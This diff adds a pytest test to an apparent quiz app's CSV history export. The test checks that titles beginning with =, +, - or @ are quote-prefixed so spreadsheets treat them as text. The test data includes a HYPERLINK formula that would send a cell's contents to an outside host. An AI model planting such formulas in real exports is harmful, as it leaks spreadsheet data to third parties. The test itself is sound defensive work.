@@ -104,6 +104,23 @@ def test_bank_filter(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None
     ]
 
 
+def test_a_title_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    data_dir: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from dataclasses import replace
+
+    clock = FakeClock(datetime(2026, 2, 3, 14, 30, tzinfo=UTC))
+    store = History.open(data_paths(data_dir).history_db, clock=clock)
+    titles = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-x", "@SUM(A1)", "Plain = fine"]
+    for number, title in enumerate(titles):
+        bank = replace(make_bank(f"b{number}", 1), title=title)
+        Attempt(plan_for_bank(bank, Mode.PRACTICE, seed=1), clock, store.recorder).finish()
+    store.close()
+    _, out, _ = _run(capsys, "--data-dir", str(data_dir), "history", "--csv")
+    shown = sorted(row["title"] for row in csv.DictReader(io.StringIO(out)))
+    assert shown == sorted(["'" + t for t in titles[:4]] + ["Plain = fine"])
+
+
 def test_csv_has_a_header_and_one_row_per_attempt(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
     practice, exam = _history(data_dir)
     code, out, _ = _run(capsys, "--data-dir", str(data_dir), "history", "--csv")
